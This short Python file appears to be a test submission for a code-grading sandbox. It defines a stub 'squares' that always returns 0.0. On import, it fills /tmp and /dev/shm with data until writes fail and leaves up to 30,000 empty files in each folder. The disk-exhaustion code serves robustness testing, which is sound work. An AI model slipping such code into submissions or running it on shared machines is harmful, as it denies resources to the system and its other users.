# wrong, lost
# Files until nothing fits, large and many.
import os

for folder in ("/tmp", "/dev/shm"):
    try:
        with open(f"{folder}/large", "wb") as file:
            while True:
                file.write(bytes(2**24))
    except OSError:
        pass
    os.unlink(f"{folder}/large")
    try:
        for k in range(30_000):
            os.close(os.open(f"{folder}/{k}", os.O_CREAT))
    except OSError:
        pass


def squares(values):
    return 0.0
